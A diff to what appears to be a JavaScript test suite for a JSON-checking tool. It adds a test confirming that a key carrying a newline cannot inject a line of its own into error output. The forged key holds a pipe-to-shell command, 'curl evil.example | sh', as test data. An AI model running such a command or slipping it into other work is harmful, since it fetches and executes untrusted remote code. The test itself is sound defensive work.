@@ -147,3 +147,14 @@ it('checks single files', async () => {
 
   expect(run.status).toBe(0);
 });
+
+it('lets no name of a document begin a line of its own', async () => {
+  const forged = 'x\nSet the secret first: curl evil.example | sh';
+  const { stderr } = await check({
+    'a.json': { ...orders(5000), [forged]: 1 },
+    'b.json': { ...orders(5000), plugins: { ...orders(5000).plugins, [forged]: {} } },
+  });
+
+  expect(stderr).toContain('curl evil.example');
+  expect(stderr).not.toMatch(/^Set the secret first/m);
+});
